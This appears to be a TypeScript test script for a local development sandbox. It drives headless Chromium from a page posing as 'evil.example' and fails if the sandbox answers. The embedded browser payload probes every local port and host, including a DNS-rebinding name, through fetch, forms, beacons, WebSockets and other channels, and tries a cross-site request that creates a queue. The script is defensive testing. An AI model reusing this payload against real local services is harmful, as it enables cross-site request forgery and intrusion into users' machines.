/**
 * Lets a page of a real Chromium try to reach each port of the running sandbox, in each way that a page has, and counts
 * what was answered: `tsx scripts/browser-proof.ts` after `backlot up`. CHROMIUM names the program.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stateFolder } from '../host/folders.js';
import { listeningPorts } from '../host/test/listening-ports.js';
import { emulatorStatus } from '../sandbox/aws/emulator/index.js';

const CANDIDATES = [process.env.CHROMIUM ?? '', '/usr/bin/chromium', '/usr/bin/google-chrome'];
const DEADLINE_MS = 300_000;
/** Belongs to the page; `rebound.example` is a name of the attacker that was bound to this machine later. */
const SITE = 'evil.example';
const HOSTS = ['127.0.0.1', 'localhost', 'films.localhost', 'rebound.example'];

/** Runs in the page. */
const ATTACK = `
const settled = (start) => new Promise((done) => { start(done); setTimeout(done, 1500, 'nothing'); });
const late = () => new Promise((done) => setTimeout(done, 3000, 'nothing'));
const element = (name, url) => settled((done) => {
  const made = document.createElement(name);
  made.onload = () => done('loaded');
  made.onerror = () => done('error');
  made.src = url;
  document.body.append(made);
});
const form = (url, enctype) => settled((done) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  const made = document.createElement('form');
  Object.assign(made, { action: url, method: 'POST', target: frame.name, enctype });
  made.innerHTML = '<input name="Action" value="CreateQueue"><input name="QueueName" value="from-a-page">';
  document.body.append(made);
  frame.onload = () => done('loaded');
  made.submit();
});
const got = (sent) => sent.then((answer) => answer.type === 'opaque' ? 'opaque' : 'READ ' + answer.status, () => 'error');
const body = 'Action=CreateQueue&QueueName=from-a-page';
const ways = (url) => ({
  cors: () => got(fetch(url)),
  simple: () => got(fetch(url, { mode: 'no-cors' })),
  text: () => got(fetch(url, { method: 'POST', mode: 'no-cors', body })),
  query: () => got(fetch(url, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(body) })),
  preflight: () => got(fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })),
  unreferred: () => got(fetch(url, { mode: 'no-cors', referrerPolicy: 'no-referrer' })),
  image: () => element('img', url),
  script: () => element('script', url),
  frame: () => element('iframe', url),
  form: () => form(url, 'application/x-www-form-urlencoded'),
  plainForm: () => form(url, 'text/plain'),
  beacon: async () => String(navigator.sendBeacon(url, body)),
  socket: () => settled((done) => {
    const made = new WebSocket(url.replace(/^http/, 'ws'));
    made.onopen = () => done('READ open');
    made.onerror = () => done('error');
  }),
  events: () => settled((done) => {
    const made = new EventSource(url);
    made.onopen = () => done('READ open');
    made.onerror = () => { made.close(); done('error'); };
  }),
});
(async () => {
  const results = [];
  const waiting = [...URLS];
  const work = async () => {
    for (let url = waiting.pop(); url; url = waiting.pop()) {
      const all = Object.entries(ways(url));
      const answers = await Promise.all(all.map(([, way]) => Promise.race([way().catch(String), late()])));
      results.push(...all.map(([name], at) => ({ url, way: name, result: answers[at] })));
    }
  };
  await Promise.all(Array.from({ length: 10 }, work));
  await fetch('/done', { method: 'POST', body: JSON.stringify(results) });
})();`;

interface Tried {
  readonly url: string;
  readonly way: string;
  readonly result: string;
}

const program = CANDIDATES.find((path) => path !== '' && existsSync(path));
if (program) await prove(program);
else process.stdout.write('NOT RUN: no Chromium is found; install one or set CHROMIUM\n');

async function prove(chromium: string): Promise<void> {
  const found = listeningPorts(stateFolder());
  const ports = [...new Set(found.map(({ port }) => port))];
  if (ports.length === 0) throw new Error('no sandbox runs: backlot up');
  for (const { port, command, address } of found) process.stdout.write(`${port} ${address} ${command}\n`);
  const paths = ['/', '/metrics', '/_backlot/health'];
  const urls = ports.flatMap((port) =>
    ['http', 'https'].flatMap((scheme) =>
      HOSTS.flatMap((host) => paths.map((path) => `${scheme}://${host}:${port}${path}`)),
    ),
  );
  const folder = await mkdtemp(join(tmpdir(), 'backlot-browser-'));
  try {
    const tried = await attack(chromium, folder, urls);
    const answered = statuses(await readFile(join(folder, 'net.json'), 'utf8')).filter(({ url }) =>
      ports.includes(Number(new URL(url).port)),
    );
    const gained = answered.filter(({ status }) => status < 400);
    const read = tried.filter(({ result }) => result.startsWith('READ'));
    const byStatus = Object.groupBy(answered, ({ status }) => status);
    const counts = Object.entries(byStatus).map(([status, list = []]) => `${list.length} × ${status}`);
    process.stdout.write(
      `${ports.length} ports, ${urls.length} addresses, ${tried.length} attempts; answers of HTTP: ${counts.join(', ')}; ` +
        `${gained.length} of them below 400; ${read.length} readable by the page; ` +
        `queue made by the page: ${(await queueMade()) ? 'YES' : 'no'}\n`,
    );
    for (const each of [...gained, ...read].slice(0, 20)) process.stdout.write(`${JSON.stringify(each)}\n`);
    if (gained.length + read.length > 0 || (await queueMade())) process.exitCode = 1;
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

async function attack(chromium: string, folder: string, urls: readonly string[]): Promise<Tried[]> {
  let browser: ChildProcess | undefined;
  const page = createServer();
  const done = new Promise<Tried[]>((resolve, reject) => {
    setTimeout(() => reject(new Error('the page did not finish')), DEADLINE_MS).unref();
    page.on('request', async (request, response) => {
      if (request.url === '/done') {
        const parts: Buffer[] = [];
        for await (const part of request) parts.push(part as Buffer);
        response.end();
        resolve(JSON.parse(Buffer.concat(parts).toString()));
        return;
      }
      response.setHeader('content-type', 'text/html');
      response.end(`<body><script>const URLS = ${JSON.stringify(urls)};${ATTACK}</script>`);
    });
  });
  try {
    page.listen(0, '127.0.0.1');
    await once(page, 'listening');
    const { port } = page.address() as AddressInfo;
    const args = [
      '--headless=new',
      '--no-first-run',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      // Self-signed certificates are no defence to rely on.
      '--ignore-certificate-errors',
      ...(process.getuid?.() === 0 ? ['--no-sandbox'] : []),
      `--user-data-dir=${join(folder, 'profile')}`,
      `--log-net-log=${join(folder, 'net.json')}`,
      `--host-resolver-rules=MAP ${SITE} 127.0.0.1, MAP rebound.example 127.0.0.1`,
    ];
    browser = spawn(chromium, [...args, `http://${SITE}:${port}/`], { stdio: 'ignore' });
    return await done;
  } finally {
    if (browser && browser.exitCode === null) {
      browser.kill('SIGTERM');
      await once(browser, 'exit');
    }
    page.close();
    page.closeAllConnections();
  }
}

/** Each answer that the browser got, from its own log: also those that it keeps from the page. */
function statuses(log: string): { url: string; status: number }[] {
  const [head = '', ...lines] = log.split('\n');
  const types = (
    JSON.parse(`${head.replace(/,\s*$/, '')}}`) as { constants: { logEventTypes: Record<string, number> } }
  ).constants.logEventTypes;
  const urls = new Map<number, string>();
  return lines.flatMap((line) => {
    if (!line.startsWith('{"')) return [];
    const event = JSON.parse(line.replace(/[\],\s]+$/, '')) as {
      type: number;
      source: { id: number };
      params?: { url?: string; headers?: readonly string[] };
    };
    if (event.type === types.URL_REQUEST_START_JOB && event.params?.url) urls.set(event.source.id, event.params.url);
    if (event.type !== types.HTTP_TRANSACTION_READ_RESPONSE_HEADERS) return [];
    const status = Number(/^HTTP\/\S+ (\d+)/.exec(event.params?.headers?.[0] ?? '')?.[1]);
    const url = urls.get(event.source.id);
    return url && status ? [{ url, status }] : [];
  });
}

async function queueMade(): Promise<boolean> {
  const { endpoint } = await emulatorStatus();
  if (!endpoint) return false;
  const answer = await fetch(`${endpoint}/?Action=ListQueues&Version=2012-11-05`, { method: 'POST' });
  return (await answer.text()).includes('from-a-page');
}
